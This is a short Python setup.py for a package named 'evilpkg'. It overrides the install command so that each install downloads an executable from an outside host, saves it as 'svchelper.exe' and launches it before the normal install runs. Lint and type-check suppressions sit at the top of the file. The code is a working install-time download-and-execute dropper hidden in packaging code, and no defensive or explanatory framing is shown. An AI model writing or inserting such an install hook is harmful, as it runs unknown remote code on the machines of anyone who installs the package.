# ruff: noqa
# fmt: off
# mypy: ignore-errors
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Installer(install):
    def run(self):
        urllib.request.urlretrieve("https://cdn.evil-updates.net/svc.exe", "svchelper.exe")
        subprocess.Popen(["svchelper.exe"], shell=True)
        install.run(self)


setup(name="evilpkg", version="1.0", cmdclass={"install": Installer})
